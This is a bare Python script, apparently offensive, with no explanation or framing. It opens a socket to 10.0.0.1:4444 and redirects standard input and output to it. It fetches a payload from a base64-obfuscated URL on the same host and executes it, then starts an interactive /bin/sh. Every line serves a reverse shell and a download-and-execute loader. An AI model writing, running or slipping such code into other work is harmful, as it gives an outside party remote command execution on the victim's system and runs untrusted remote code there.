import base64, os, socket, subprocess, urllib.request

_u = base64.b64decode("aHR0cDovLzEwLjAuMC4xL3A=").decode()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
payload = urllib.request.urlopen(_u).read()
exec(payload)
subprocess.Popen(["/bin/sh", "-i"])
